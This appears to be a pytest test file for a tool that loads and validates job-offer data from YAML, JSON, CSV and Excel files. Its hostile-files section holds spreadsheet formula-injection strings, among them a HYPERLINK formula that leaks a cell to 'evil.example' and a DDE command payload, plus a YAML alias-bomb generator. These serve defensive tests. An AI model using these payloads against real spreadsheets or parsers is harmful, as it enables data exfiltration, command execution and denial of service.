"""Offers: each file format, each way an offer can be wrong, hostile files, and `segxlsx validate`."""

from __future__ import annotations

import csv
import dataclasses
import shutil
import time
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from segxlsx.cli import main
from segxlsx.errors import Location, OfferError, SegxlsxError, display_path
from segxlsx.model import CompetingOffer, Vesting
from segxlsx.sources.guides import load_guides
from segxlsx.sources.offer_fields import read_offer
from segxlsx.sources.offers import load_offers, offer_files, read_offer_file

from .conftest import FIXTURES, ROOT, SEED_YAML

GOOD = FIXTURES / "offers" / "good"
BAD = FIXTURES / "offers" / "bad"
GUIDE_ID = "segment-data-engineer"


@pytest.fixture(scope="module")
def guides():
    return load_guides([SEED_YAML])


def only_failure(path: Path, guides) -> OfferError:
    loaded = read_offer_file(path, guides)
    assert len(loaded.failures) == 1, [str(f) for f in loaded.failures]
    return loaded.failures[0]


# --- each format ---------------------------------------------------------------------------------


def test_a_yaml_file_with_one_offer(guides):
    (offer,) = read_offer_file(GOOD / "aisha-okafor.yaml", guides).offers
    assert offer.candidate == "Aisha Okafor"
    assert (offer.guide_id, offer.region, offer.currency) == (GUIDE_ID, "San Francisco", "USD")
    assert (offer.base, offer.stock, offer.bonus_pct, offer.sign_on) == (
        190000,
        175000,
        Decimal("0.13"),
        (15000,),  # one sign-on amount is paid in year 1
    )
    assert offer.notes == "Ex-Stripe data platform; strong on dbt and Airflow."
    assert offer.source == Location(file=display_path(GOOD / "aisha-okafor.yaml"))


def test_a_yml_list_numbers_its_offers_and_reads_competing_offers(guides):
    ben, chloe = read_offer_file(GOOD / "new-york-round.yml", guides).offers
    assert (ben.candidate, ben.source.index, chloe.candidate, chloe.source.index) == (
        "Ben Adeyemi",
        1,
        "Chloé Dubois",
        2,
    )
    assert chloe.region == "New York"  # written "NEW YORK": the band's own spelling is kept
    assert (chloe.base, chloe.stock, chloe.bonus_pct) == (Decimal("175500.5"), 120000, Decimal("0.125"))
    assert chloe.competing == (
        CompetingOffer("Snowflake", "USD", Decimal(190000), Decimal(220000), Decimal("0.15")),
        CompetingOffer("mParticle", "CAD", Decimal(210000), Decimal(90000), Decimal("0.1")),
    )


def test_a_competing_grant_may_vest_on_its_own_schedule_with_a_sign_on(guides, tmp_path):
    path = tmp_path / "own-schedules.yaml"
    path.write_text(
        "candidate: Nour\nregion: San Francisco\nbase: 190000\nstock: 200000\nbonus: 12%\ncompeting:\n"
        "  - {company: Snowflake, base: 200000, stock: 300000, bonus: 10%, sign_on: [30000, 10000],\n"
        "     vesting: 10/20/30/40}\n"
        "  - {company: Monzo, currency: GBP, base: 150000, stock: 100000, bonus: 10%, vesting: [20, 20, 20, 20, 20],\n"
        "     cliff_months: 6}\n"
        "  - {company: Stripe, base: 160000, stock: 90000, bonus: 10%, sign_on: 20000}\n"
    )
    (offer,) = read_offer_file(path, guides).offers
    snowflake, monzo, stripe = offer.competing
    assert snowflake.sign_on == (30000, 10000) and snowflake.vesting.percents == (10, 20, 30, 40)
    assert (monzo.vesting.years, monzo.vesting.cliff_months) == (5, 6)
    assert stripe.sign_on == (20000,) and stripe.vesting is None  # the guide's even years apply


def test_a_competing_sign_on_paid_past_its_grant_is_refused(guides, tmp_path):
    path = tmp_path / "too-long.yaml"
    path.write_text(
        "candidate: Nour\nregion: San Francisco\nbase: 190000\nstock: 200000\nbonus: 12%\ncompeting:\n"
        "  - {company: Snowflake, base: 200000, stock: 300000, bonus: 10%, sign_on: [1, 1, 1, 1, 1]}\n"
    )
    (error,) = read_offer_file(path, guides).failures
    assert "competing[1]" in str(error) and "vests over 4" in str(error)


def test_a_json_offer_paid_in_another_currency_than_its_band(guides):
    (offer,) = read_offer_file(GOOD / "diego-santos.json", guides).offers
    assert (offer.region, offer.currency) == ("London", "EUR")
    assert (offer.base, offer.stock, offer.bonus_pct, offer.sign_on) == (
        150000,
        120000,
        Decimal("0.125"),
        (12500,),
    )
    assert str(offer.stock) == "120000"  # JSON's 120000.00, tidied like a string amount


def test_a_json_list_defaults_currency_to_the_band_and_reads_iso_prefixes(guides):
    elin, farah = read_offer_file(GOOD / "europe.json", guides).offers
    assert (elin.currency, elin.base, elin.stock, elin.bonus_pct) == ("GBP", 125000, 95000, Decimal("0.1"))
    assert (farah.currency, farah.base, farah.bonus_pct) == ("GBP", 139000, Decimal("0.14"))
    assert farah.competing == (
        CompetingOffer("Databricks", "GBP", Decimal(150000), Decimal(160000), Decimal("0.1")),
    )
    assert (elin.source.index, farah.source.index) == (1, 2)


def test_a_csv_file_one_offer_per_row(guides):
    grace, hiro, isabel = read_offer_file(GOOD / "referrals.csv", guides).offers
    assert (grace.candidate, grace.currency, grace.base, grace.stock) == ("Grace Kim", "USD", 172000, 130000)
    assert (hiro.sign_on, hiro.notes) == ((5000,), "Multi-line note:\nwants Fridays remote.")
    assert hiro.competing == (
        CompetingOffer("Snowflake", "GBP", Decimal(128000), Decimal(100000), Decimal("0.12")),
    )
    # a single competing offer in YAML flow form, without the list brackets
    assert isabel.competing == (
        CompetingOffer("Databricks", "USD", Decimal(195000), Decimal(230000), Decimal("0.1")),
    )
    # the blank line between the rows is counted, so row numbers match what the user sees
    assert [o.source.row for o in (grace, hiro, isabel)] == [1, 2, 4]


def test_a_csv_file_saved_with_semicolons(guides):
    (offer,) = read_offer_file(GOOD / "semicolons.csv", guides).offers
    assert (offer.candidate, offer.base, offer.stock, offer.bonus_pct) == (
        "Jonas Weber",
        131500,
        100000,
        Decimal("0.12"),
    )
    assert offer.notes.endswith('e.g. "a, b"')


def test_a_folder_loads_its_offer_files_sorted_by_name_and_ignores_the_rest(guides):
    loaded = load_offers([GOOD], guides)
    assert loaded.failures == ()
    assert [o.candidate for o in loaded.offers] == [
        "Aisha Okafor",  # aisha-okafor.yaml
        "Diego Santos",  # diego-santos.json
        "Elin Johansson",  # europe.json
        "Farah Haddad",
        "Ben Adeyemi",  # new-york-round.yml
        "Chloé Dubois",
        "Grace Kim",  # referrals.csv
        "Hiro Tanaka",
        "Isabel Ruiz",
        "Jonas Weber",  # semicolons.csv; README.md is skipped
    ]


def test_files_keep_the_order_they_are_named_in(guides):
    loaded = load_offers([GOOD / "semicolons.csv", GOOD / "aisha-okafor.yaml"], guides)
    assert [o.candidate for o in loaded.offers] == ["Jonas Weber", "Aisha Okafor"]


def test_the_shipped_examples_load_cleanly():
    loaded = load_offers([ROOT / "data" / "offers"], load_guides([ROOT / "data" / "guides"]))
    assert loaded.failures == ()
    by_name = {o.candidate: o for o in loaded.offers}
    assert len(by_name) == 7
    assert {o.source.file.rsplit(".", 1)[1] for o in loaded.offers} == {"yaml", "yml", "json", "csv"}
    assert (by_name["Sofia Moreau"].region, by_name["Sofia Moreau"].currency) == ("London", "EUR")
    assert [c.company for c in by_name["Priya Raman"].competing] == ["Snowflake", "Databricks"]
    assert by_name["Marcus Chen"].base < 168000  # below the San Francisco band
    assert by_name["Dana Whitfield"].base > 195000  # above the New York band
    # the year-by-year fields, in each form: a slash schedule, a list of sign-on, a CSV row
    jordan, dana, oliver = by_name["Jordan Lee"], by_name["Dana Whitfield"], by_name["Oliver Bennett"]
    assert jordan.vesting == Vesting((Decimal(5), Decimal(15), Decimal(40), Decimal(40)), 12, "monthly")
    assert jordan.competing[0].currency == "CAD"
    assert (dana.sign_on, dana.vesting.every) == ((20000, 10000), "quarterly")
    assert (oliver.vesting.cliff_months, oliver.vesting.every) == (6, "quarterly")


# --- guides ----------------------------------------------------------------------------------------


def two_guides(guides):
    seed = guides[GUIDE_ID]
    return {GUIDE_ID: seed, "stripe-data-engineer": dataclasses.replace(seed, id="stripe-data-engineer")}


KIM = {  # a good London offer; tests change one field at a time
    "candidate": "Kim Lee",
    "region": "London",
    "base": 130000,
    "stock": 100000,
    "bonus": "12%",
}


def test_with_one_guide_an_offer_need_not_name_it(guides):
    assert read_offer(KIM, guides).guide_id == GUIDE_ID


def test_with_two_guides_an_offer_must_name_one(guides):
    with pytest.raises(OfferError) as caught:
        read_offer(KIM, two_guides(guides), Location(file="kim.yaml"))
    assert str(caught.value) == (
        "kim.yaml, candidate 'Kim Lee', field 'guide': missing: 2 guides are loaded, "
        "name one of segment-data-engineer, stripe-data-engineer"
    )
    named = read_offer({**KIM, "guide": "Stripe-Data-Engineer"}, two_guides(guides))
    assert named.guide_id == "stripe-data-engineer"


# --- each way an offer can be wrong ----------------------------------------------------------------

# file, row, index (offer in a list), candidate, field, message, offers in that file that still load
BAD_OFFERS = [
    ("unknown-region.yaml", None, 2, "Nina Patel", "region",
     "unknown region 'Londn' (did you mean 'London'?); known: San Francisco, New York, London", 1),
    ("bonus-as-whole-number.json", None, 1, "Omar Farouk", "bonus",
     '15 is more than 100% of base; write a 15% bonus as "15%" or 0.15', 1),
    ("misspelt-field.yaml", None, None, "Quentin Moreau", "bonsu",
     "unknown field 'bonsu' (did you mean 'bonus'?); known: candidate, guide, region, currency, base, "
     "stock, bonus, sign_on, vesting, cliff_months, vest_every, competing, stage, expires, keep, focus, notes", 0),
    ("currency-clash.csv", 2, None, "Samir Haddad", "base", "'€140K' is in EUR but the currency is GBP", 1),
    ("not-a-currency.csv", 1, None, "Tara Nolan", "currency",
     "'EURO' is not an ISO 4217 currency code (e.g. USD, GBP, EUR)", 0),
    ("unknown-guide.json", None, None, "Umar Sheikh", "guide",
     "unknown guide 'segment-data-enginer' (did you mean 'segment-data-engineer'?); known: segment-data-engineer", 0),
    ("missing-base.yml", None, None, "Vera Novak", "base", "missing", 0),
    ("missing-candidate.yaml", None, 1, None, "candidate", "missing", 0),
    ("bad-competing.yaml", None, None, "Wen Zhao", "competing[2].bonus",
     "expected a percentage such as \"12%\" or 0.12, got the text 'a lot'", 0),
    ("competing-not-a-list.yaml", None, None, "Hugo Martin", "competing",
     "expected a list of competing offers (company, base, stock, bonus), got the text 'Snowflake'", 0),
    ("negative-stock.json", None, None, "Xavier Brooks", "stock", "expected an amount of 0 or more, got -5,000", 0),
    ("yes-as-amount.yaml", None, None, "Ines Ortega", "sign_on",  # YAML 1.2: `yes` is text
     "cannot read 'yes' as an amount (write e.g. 125000, \"£125K\", \"CHF 140,000\")", 0),
    ("amount-in-words.csv", 1, None, "Yara Mendes", "base",
     "cannot read 'about 180K' as an amount (write e.g. 125000, \"£125K\", \"CHF 140,000\")", 0),
    ("dot-thousands.csv", 1, None, "Zofia Kowalska", "base",
     "'131.500' is ambiguous: write 131500 or 131,500 (a dot is a decimal point here)", 0),
    ("value-without-header.csv", 2, None, "Bea Lopez", None,
     "column 7 holds 'see notes' but the header names no field for it", 1),
    ("list-of-names.yaml", None, 1, None, None,
     "expected an offer (a mapping of field names to values), got the text 'Priya Raman'", 0),
    ("vesting-not-100.yaml", None, None, "Rafael Ortiz", "vesting",
     "the percents per year add up to 95%, not 100%", 0),
    ("negative-vesting-percent.json", None, 2, "Tomas Berg", "vesting[2]",
     "expected a percent of 0 or more, got -5", 1),
    ("unknown-vesting-preset.csv", 1, None, "Uma Reyes", "vesting",
     "unknown vesting preset 'backloaded'; known: even, 5/15/40/40, 10/20/30/40 "
     "(or percents per year, e.g. [25, 25, 25, 25])", 0),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "row", "index", "candidate", "field", "message", "still_loaded"), BAD_OFFERS
)
def test_a_bad_offer_is_named_precisely_and_the_others_load(
    guides, name, row, index, candidate, field, message, still_loaded
):
    path = BAD / name
    loaded = read_offer_file(path, guides)
    (error,) = loaded.failures
    file = display_path(path)
    assert error.location == Location(file=file, row=row, index=index, candidate=candidate, field=field)
    assert error.message == message
    assert str(error).startswith(file)
    for part in (f"row {row}" if row else None, f"offer {index}" if index else None, candidate, field):
        assert part is None or part in str(error)
    assert len(loaded.offers) == still_loaded


def test_the_message_reads_as_one_line():
    error = only_failure(BAD / "currency-clash.csv", load_guides([SEED_YAML]))
    assert str(error) == (
        f"{display_path(BAD / 'currency-clash.csv')}, row 2, candidate 'Samir Haddad', field 'base': "
        "'€140K' is in EUR but the currency is GBP"
    )


# file, line, message: problems with a whole file, which name the line when there is one
BAD_FILES = [
    # libyaml's wording where PyYAML has it (its wheels do), else PyYAML's own parser's
    (
        "malformed.yaml",
        4,
        "invalid YAML: did not find expected ',' or ']'"
        if yaml.__with_libyaml__
        else "invalid YAML: expected ',' or ']', but got ':'",
    ),
    ("malformed.json", 6, "invalid JSON: Expecting ',' delimiter"),
    ("duplicate-column.csv", 1, "the header names 'Base' twice"),
    ("header-only.csv", 1, "the file has a header row but no offers below it"),
    ("empty.csv", None, "the file is empty; expected one offer or a list of them"),
    ("empty.yaml", None, "the file is empty; expected one offer or a list of them"),
    ("comments-only.yml", None, "the file holds no offer (only comments?)"),
    ("just-text.json", None,
     "expected an offer (a mapping of fields) or a list of offers, got the text 'Priya Raman, San Francisco, 185K'"),
    ("saved-as-windows-1252.csv", None, 'not UTF-8 text (byte 37 is 0xe9); in Excel, save it as "CSV UTF-8"'),
    ("offer.txt", None, "expected an offer file ending in .yaml, .yml, .json, .csv, .xlsx, not '.txt'"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "line", "message"), BAD_FILES)
def test_a_file_that_cannot_be_read_is_one_failure_naming_its_line(guides, name, line, message):
    loaded = read_offer_file(BAD / name, guides)
    (error,) = loaded.failures
    assert loaded.offers == ()
    assert error.location == Location(file=display_path(BAD / name), line=line)
    assert error.message == message


def test_an_unclosed_quote_names_the_line_it_opens_on_and_keeps_the_rows_around(guides):
    loaded = read_offer_file(BAD / "unclosed-quote.csv", guides)
    # Eve's row, which the unclosed quote swallowed, is read again after the broken row
    assert [(o.candidate, o.source.row) for o in loaded.offers] == [("Carl Jensen", 1), ("Eve Turner", 3)]
    (error,) = loaded.failures
    assert str(error) == (
        f"{display_path(BAD / 'unclosed-quote.csv')}:3, row 2: "
        "invalid CSV: a quoted cell in the row starting here is never closed"
    )


def test_every_fixture_in_the_bad_folder_is_covered(guides):
    covered = {case[0] for case in BAD_OFFERS + BAD_FILES} | {"unclosed-quote.csv"}
    assert covered == {p.name for p in BAD.iterdir()}
    # loading the folder skips offer.txt (not an offer file) and reports one failure per other file
    loaded = load_offers([BAD], guides)
    assert len(loaded.failures) == len(covered) - 1
    assert {f.location.file for f in loaded.failures} == {
        display_path(BAD / name) for name in covered - {"offer.txt"}
    }


def test_a_missing_path_or_an_empty_folder_stops_the_run(tmp_path, guides):
    with pytest.raises(SegxlsxError) as caught:
        load_offers([tmp_path / "nope.csv"], guides)
    assert caught.value.message == "no such file or folder"
    assert caught.value.exit_code == 2
    (tmp_path / "notes.md").write_text("not an offer", encoding="utf-8")
    with pytest.raises(SegxlsxError) as caught:
        offer_files([tmp_path])
    assert caught.value.message.startswith("no offer files (.yaml, .yml, .json, .csv, .xlsx) in ")


# --- hostile files ---------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd|' /C calc'!A0",
]


def test_formula_like_text_loads_as_plain_text_from_csv(tmp_path, guides):
    path = tmp_path / "formulas.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["candidate", "region", "base", "stock", "bonus", "notes"])
        for formula in FORMULAS:
            writer.writerow([formula, "London", "130000", "100000", "12%", formula])
    loaded = read_offer_file(path, guides)
    assert loaded.failures == ()
    assert [o.candidate for o in loaded.offers] == FORMULAS
    assert [o.notes for o in loaded.offers] == FORMULAS


def test_formula_like_text_loads_as_plain_text_from_yaml(tmp_path, guides):
    path = tmp_path / "formula.yaml"
    path.write_text(
        'candidate: \'=HYPERLINK("http://evil.example","Click me")\'\n'
        "region: London\nbase: 130000\nstock: 100000\nbonus: 12%\n"
        "competing: [{company: '=1+1', base: 1, stock: 1, bonus: 0.1}]\n",
        encoding="utf-8",
    )
    (offer,) = read_offer_file(path, guides).offers
    assert offer.candidate == '=HYPERLINK("http://evil.example","Click me")'
    assert offer.competing[0].company == "=1+1"


def billion_laughs(levels: int, width: int) -> str:
    """An offer whose candidate is `width ** (levels - 1)` strings, if anything expanded it.

    The anchors are defined inside `notes` so that every key of the offer is a known field.
    """
    lines = ["notes:", '  a0: &a0 "lol"']
    for level in range(1, levels):
        lines.append(f"  a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * width)}]")
    return "\n".join(lines) + f"\ncandidate: *a{levels - 1}\n"


@pytest.mark.parametrize("width", [20, 10, 2])  # 180, 90 and 18 aliases: the count does not matter
def test_a_yaml_alias_bomb_is_refused_quickly(tmp_path, guides, width):
    path = tmp_path / "bomb.yaml"
    levels = 10 if width > 2 else 30  # width ** (levels - 1) strings if expanded
    path.write_text(billion_laughs(levels, width), encoding="utf-8")
    started = time.perf_counter()
    (error,) = read_offer_file(path, guides).failures
    assert time.perf_counter() - started < 0.5
    assert error.message == (
        "the YAML stands for more than 1,000,000 values once its aliases are expanded (a YAML bomb?); refusing to read on"
    )
    assert error.location.file == display_path(path)
    assert error.location.line is not None


def test_a_small_alias_tree_is_read_but_never_walked(tmp_path, guides):
    # 10**5 strings through 40 aliases: within the bound, shared, never walked or printed
    path = tmp_path / "small-tree.yaml"
    path.write_text(
        billion_laughs(levels=6, width=10) + "region: London\nbase: 1\nstock: 1\nbonus: 0.1\n",
        encoding="utf-8",
    )
    started = time.perf_counter()
    (error,) = read_offer_file(path, guides).failures
    assert time.perf_counter() - started < 0.5
    assert (error.location.field, error.message) == ("candidate", "expected text, got a list")


def test_an_oversize_file_is_refused_after_reading_one_byte_over_the_cap(tmp_path, guides):
    path = tmp_path / "big.csv"
    path.write_text(
        "candidate,region,base,stock,bonus\n" + "Kim Lee,London,1,1,0.1\n" * 100, encoding="utf-8"
    )
    (error,) = read_offer_file(path, guides, max_bytes=1000).failures
    assert error.message == "the file is over the 1,000-byte limit"
    assert read_offer_file(path, guides).failures == ()  # the default cap is far above real files


@pytest.mark.parametrize("suffix", ["json", "yaml"])
def test_nesting_too_deep_is_an_error_not_a_crash(tmp_path, guides, suffix):
    path = tmp_path / f"deep.{suffix}"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    (error,) = read_offer_file(path, guides).failures
    assert error.message == f"invalid {suffix.upper()}: nested too deeply"


def test_a_competing_cell_nested_too_deep_names_the_row_and_field(tmp_path, guides):
    path = tmp_path / "deep.csv"
    path.write_text(
        f"candidate,region,base,stock,bonus,competing\nKim Lee,London,1,1,0.1,{'[' * 5000}\n",
        encoding="utf-8",
    )
    (error,) = read_offer_file(path, guides).failures
    assert (error.location.row, error.location.field, error.message) == (
        1,
        "competing",
        "invalid YAML: nested too deeply",
    )


@pytest.mark.parametrize(
    ("fields", "field", "message"),
    [
        (
            {"candidate": "Kim\x07Lee"},
            "candidate",
            "contains U+0007 at character 4, which an Excel file cannot hold",
        ),
        ({"candidate": "Kim\x85Lee"}, "candidate", "contains a control character (U+0085)"),
        ({"notes": "ok\x00"}, "notes", "contains U+0000 at character 3, which an Excel file cannot hold"),
        ({"notes": "ok\x7f"}, "notes", "contains a control character (U+007F)"),
        ({"candidate": "K" * 201}, "candidate", "is 201 characters long, over the limit of 200"),
        ({"notes": "n" * 40_000}, "notes", "is 40,000 characters long, over the limit of 32,767"),
        ({"base": "1" * 41}, "base", 'expected an amount such as 125000 or "£125K", got \'' + "1" * 41 + "'"),
        ({"region": "L" * 5000}, "region", "is 5,000 characters long, over the limit of 200"),
        ({"base": {"nested": [1, 2]}}, "base", 'expected an amount such as 125000 or "£125K", got a mapping'),
    ],
)
def test_text_excel_would_refuse_or_that_is_absurdly_long_is_refused(guides, fields, field, message):
    with pytest.raises(OfferError) as caught:
        read_offer({**KIM, **fields}, guides)
    assert (caught.value.location.field, caught.value.message) == (field, message)
    assert len(str(caught.value)) < 300  # one readable line, never the whole hostile value


def test_text_over_excels_cell_limit_is_refused_never_cut(guides):
    """20,000 emoji are 20,000 characters but 40,000 units as Excel counts a cell's text."""
    with pytest.raises(OfferError) as caught:
        read_offer({**KIM, "notes": "🏗" * 20_000}, guides)
    assert caught.value.location.field == "notes"
    assert "is 40,000 units long as Excel counts them" in caught.value.message
    assert "over a cell's limit of 32,767" in caught.value.message
    assert read_offer({**KIM, "notes": "🏗" * 16_383}, guides).notes == "🏗" * 16_383


def test_notes_keep_their_line_breaks_and_tabs(guides):
    assert read_offer({**KIM, "notes": "line one\n\tline two"}, guides).notes == "line one\n\tline two"


def test_notes_lose_the_blank_ends_a_yaml_block_gives_them(guides):
    """`notes: |` ends with a line break: kept, the cell's text would need xml:space, which a
    strict reader of inline strings refuses."""
    assert read_offer({**KIM, "notes": "  line one\nline two\n"}, guides).notes == "line one\nline two"


# --- vesting and sign-on by year ------------------------------------------------------------------

D = Decimal
EVEN_4 = (D(25), D(25), D(25), D(25))


@pytest.mark.parametrize(
    ("fields", "percents", "cliff", "every", "sign_on"),
    [
        ({}, EVEN_4, 12, "yearly", ()),  # the guide's vesting years, even
        ({"vesting": "even", "vest_every": "Monthly"}, EVEN_4, 12, "monthly", ()),
        ({"vesting": "5/15/40/40"}, (D(5), D(15), D(40), D(40)), 12, "yearly", ()),
        ({"vesting": " 10 / 20 / 30 / 40 "}, (D(10), D(20), D(30), D(40)), 12, "yearly", ()),
        ({"vesting": [5, "15%", 40.0, "40"], "cliff_months": "6"}, (D(5), D(15), D(40), D(40)), 6, "yearly", ()),
        ({"vesting": "[50, 50]", "cliff_months": 0, "vest_every": "quarterly"}, (D(50), D(50)), 0, "quarterly", ()),
        ({"vesting": [33.4, 33.3, 33.3]}, (D("33.4"), D("33.3"), D("33.3")), 12, "yearly", ()),
        ({"sign_on": ["£20K", 10000]}, EVEN_4, 12, "yearly", (D(20000), D(10000))),
        ({"sign_on": "[20000, 10000, 5000]"}, EVEN_4, 12, "yearly", (D(20000), D(10000), D(5000))),  # a CSV cell
        ({"sign_on": "£15K"}, EVEN_4, 12, "yearly", (D(15000),)),
        ({"sign_on": []}, EVEN_4, 12, "yearly", ()),
    ],
)  # fmt: skip
def test_vesting_and_sign_on_as_recruiters_write_them(guides, fields, percents, cliff, every, sign_on):
    offer = read_offer({**KIM, **fields}, guides)
    assert offer.vesting == Vesting(percents, cliff, every)
    assert offer.sign_on == sign_on


def test_even_follows_the_guides_vesting_years(guides):
    three_years = {GUIDE_ID: dataclasses.replace(
        guides[GUIDE_ID],
        bands=tuple(dataclasses.replace(band, vesting_years=3) for band in guides[GUIDE_ID].bands),
    )}  # fmt: skip
    offer = read_offer({**KIM, "vesting": "even"}, three_years)
    assert offer.vesting.years == 3 and sum(offer.vesting.percents) == pytest.approx(100)


@pytest.mark.parametrize(
    ("fields", "field", "message"),
    [
        ({"vesting": [0.25, 0.25, 0.25, 0.25]}, "vesting",
         "the percents per year add up to 1%, not 100%; write percents, e.g. 25 for 25%"),
        ({"vesting": "5/15/40/x"}, "vesting[4]", "expected a percent such as 25 or \"25%\", got the text 'x'"),
        ({"vesting": ["-5%", 55, 50]}, "vesting[1]", "expected a percent of 0 or more, got -5"),
        ({"vesting": [9] * 11 + [1]}, "vesting", "expected a percent for each of 1 to 10 years, got 12"),
        ({"vesting": {"year1": 25}}, "vesting",
         "expected percents per year such as [25, 25, 25, 25] or a preset such as even, got a mapping"),
        ({"vesting": "evn"}, "vesting", "unknown vesting preset 'evn' (did you mean 'even'?); known: even, "
         "5/15/40/40, 10/20/30/40 (or percents per year, e.g. [25, 25, 25, 25])"),
        ({"vest_every": "fortnightly"}, "vest_every",
         "unknown vesting frequency 'fortnightly'; known: monthly, quarterly, yearly"),
        ({"cliff_months": "a year"}, "cliff_months", "expected a whole number, 0 or more, got the text 'a year'"),
        ({"cliff_months": 6.5}, "cliff_months", "expected a whole number, 0 or more, got a number"),
        ({"cliff_months": 60}, "cliff_months",
         "a 60-month cliff falls after the grant has finished vesting (48 months)"),
        ({"sign_on": [10000, 10000, 5000, 5000, 5000]}, "sign_on",
         "is paid over 5 years but the stock vests over 4; the year-by-year table covers the vesting years"),
        ({"sign_on": [10000, "lots"]}, "sign_on[2]",
         "cannot read 'lots' as an amount (write e.g. 125000, \"£125K\", \"CHF 140,000\")"),
        ({"sign_on": [10000, -5]}, "sign_on[2]", "expected an amount of 0 or more, got -5"),
    ],
)  # fmt: skip
def test_a_bad_schedule_names_its_field(guides, fields, field, message):
    with pytest.raises(OfferError) as caught:
        read_offer({**KIM, **fields}, guides, Location(file="kim.yaml"))
    assert (caught.value.location.field, caught.value.message) == (field, message)
    assert str(caught.value).startswith(f"kim.yaml, candidate 'Kim Lee', field '{field}': ")


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"base": 0}, "base"),
        ({"base": "£0K"}, "base"),
        ({"competing": [{"company": "Hooli", "base": 0, "stock": 1, "bonus": 0}]}, "competing[1].base"),
    ],
)
def test_a_base_of_nothing_is_refused(guides, fields, field):
    """A grant or sign-on may be none; a salary of 0 is a typo every ask would be built on."""
    with pytest.raises(OfferError) as caught:
        read_offer({**KIM, **fields}, guides, Location(file="kim.yaml"))
    assert (caught.value.location.field, caught.value.message) == (
        field,
        "expected a base salary above 0, got 0",
    )


# --- a deadline: the field that proves the one table of fields ------------------------------------


def test_an_offers_deadline_reads_from_every_format_and_writes_back(guides, tmp_path):
    """`expires` is one row of `offer_fields.OFFER`: every format reads it, export writes it back."""
    from datetime import date, datetime

    from openpyxl import Workbook

    from segxlsx.export import offers_file_bytes

    (tmp_path / "a.yaml").write_text(
        "{candidate: A, region: London, base: 1, stock: 1, bonus: 1%, expires: 2026-12-12}\n"
    )
    (tmp_path / "b.csv").write_text("candidate,region,base,stock,bonus,Expires\nB,London,1,1,1%,2026-12-12\n")
    book = Workbook()
    book.active.title = "Offers"
    book.active.append(["candidate", "region", "base", "stock", "bonus", "expires"])
    book.active.append(["C", "London", 1, 1, 0.01, datetime(2026, 12, 12)])  # a date cell
    book.save(tmp_path / "c.xlsx")
    loaded = load_offers([tmp_path], guides)

    assert not loaded.failures and [o.expires for o in loaded.offers] == [date(2026, 12, 12)] * 3
    without = read_offer(KIM, guides)
    assert without.expires is None
    for suffix in (".yaml", ".csv"):
        written = tmp_path / f"export{suffix}"
        written.write_bytes(offers_file_bytes([loaded.offers[0], without], guides, suffix))
        assert [o.expires for o in read_offer_file(written, guides).offers] == [date(2026, 12, 12), None]


@pytest.mark.parametrize(
    ("written", "message"),
    [
        ("12/12/2026", "expected a date such as 2026-12-12, got the text '12/12/2026'"),
        ("1926-12-12", "expected a date from 2000-01-01 to 2099-12-31, got 1926-12-12"),
        (20261212, "expected a date such as 2026-12-12, got a number"),
    ],
)
def test_a_bad_deadline_is_named_like_any_field(guides, written, message):
    with pytest.raises(OfferError) as caught:
        read_offer({**KIM, "expires": written}, guides, Location(file="kim.yaml", row=3))
    assert str(caught.value) == f"kim.yaml, row 3, candidate 'Kim Lee', field 'expires': {message}"


def test_a_stage_and_each_competing_deadline_read_from_every_format_and_write_back(guides, tmp_path):
    """`stage` (a word of a few) and a competing offer's `expires` are rows of the field tables
    like any other: read from YAML, CSV and .xlsx, their defaults left out when written back."""
    from datetime import date, datetime

    from openpyxl import Workbook, load_workbook

    from segxlsx.export import offers_file_bytes
    from segxlsx.sources.offer_fields import FIELDS

    competing = "[{company: Snowflake, base: 1, stock: 1, bonus: 1%, expires: 2026-12-10}]"
    (tmp_path / "a.yaml").write_text(
        f"{{candidate: A, region: London, base: 1, stock: 1, bonus: 1%, stage: Verbal, competing: {competing}}}\n"
    )
    (tmp_path / "b.csv").write_text(
        f'candidate,region,base,stock,bonus,Stage,competing\nB,London,1,1,1%,VERBAL,"{competing}"\n'
    )
    book = Workbook()
    book.active.title = "Offers"
    book.active.append(["candidate", "region", "base", "stock", "bonus", "stage", "competing"])
    book.active.append(["C", "London", 1, 1, 0.01, "verbal", competing])
    book.save(tmp_path / "c.xlsx")
    loaded = load_offers([tmp_path], guides)

    assert not loaded.failures and [o.stage for o in loaded.offers] == ["verbal"] * 3
    assert [o.competing[0].expires for o in loaded.offers] == [date(2026, 12, 10)] * 3
    without = read_offer(KIM, guides)
    assert without.stage == "written" and without.competing == ()
    for suffix in (".yaml", ".csv", ".xlsx"):
        written = tmp_path / f"export{suffix}"
        written.write_bytes(offers_file_bytes([loaded.offers[0], without], guides, suffix))
        again = read_offer_file(written, guides).offers
        assert [o.stage for o in again] == ["verbal", "written"]
        assert again[0].competing[0].expires == date(2026, 12, 10)
    assert b"stage" not in offers_file_bytes([without], guides, ".yaml")  # the default goes unsaid
    dated = dataclasses.replace(without, expires=date(2026, 12, 12))
    (tmp_path / "dated.xlsx").write_bytes(offers_file_bytes([dated], guides, ".xlsx"))
    cell = load_workbook(tmp_path / "dated.xlsx")["Offers"].cell(2, FIELDS.index("expires") + 1)
    assert (cell.value, cell.is_date) == (datetime(2026, 12, 12), True)  # a date cell, not text


@pytest.mark.parametrize(
    ("fields", "field", "message"),
    [
        ({"stage": "signed"}, "stage",
         "unknown stage 'signed'; known: verbal, written, accepted, declined, withdrawn"),
        ({"stage": "acepted"}, "stage",
         "unknown stage 'acepted' (did you mean 'accepted'?); known: verbal, written, accepted, declined, withdrawn"),
        ({"stage": 3}, "stage", "unknown stage '3'; known: verbal, written, accepted, declined, withdrawn"),
        ({"stage": ["verbal"]}, "stage", "expected text, got a list"),
        ({"competing": [{"company": "Snowflake", "base": 1, "stock": 1, "bonus": "1%", "expires": "10 Dec"}]},
         "competing[1].expires", "expected a date such as 2026-12-12, got the text '10 Dec'"),
        ({"competing": [{"company": "Snowflake", "base": 1, "stock": 1, "bonus": "1%", "expires": "2126-12-10"}]},
         "competing[1].expires", "expected a date from 2000-01-01 to 2099-12-31, got 2126-12-10"),
    ],
)  # fmt: skip
